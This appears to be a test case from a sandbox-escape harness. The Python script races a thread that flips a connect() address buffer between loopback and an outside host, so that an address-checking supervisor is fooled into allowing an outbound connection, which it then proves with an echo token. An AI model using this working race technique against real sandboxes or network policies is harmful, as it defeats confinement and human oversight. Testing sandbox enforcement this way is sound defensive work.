"""Change the address while the judge looks: a thread flips between loopback and outside during many connects."""

import ctypes
import socket
import struct
import threading
import time

import say
import twins

libc = ctypes.CDLL(None, use_errno=True)


def packed(host, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)


def attack(given):
    outside = packed(given["outside"], int(given["echo"]))
    inside = packed("127.0.0.1", 9)
    address = ctypes.create_string_buffer(inside, 16)
    running = True

    def flip():
        while running:
            ctypes.memmove(address, outside, 16)
            ctypes.memmove(address, inside, 16)

    thread = threading.Thread(target=flip, daemon=True)
    thread.start()
    until, tries, came = time.monotonic() + 2, 0, b""
    while time.monotonic() < until and not came:
        tries += 1
        with socket.socket() as sock:
            if libc.connect(sock.fileno(), address, 16) == 0:
                try:
                    came = say.exchange(sock, b"token-race", timeout=0.5)
                except OSError:
                    pass
    running = False
    thread.join(1)
    return came == b"token-race", f"{tries} tries, came back: {came!r}"


def twin(given):
    return twins.loopback()


say.main("tcp_racing", attack, twin)
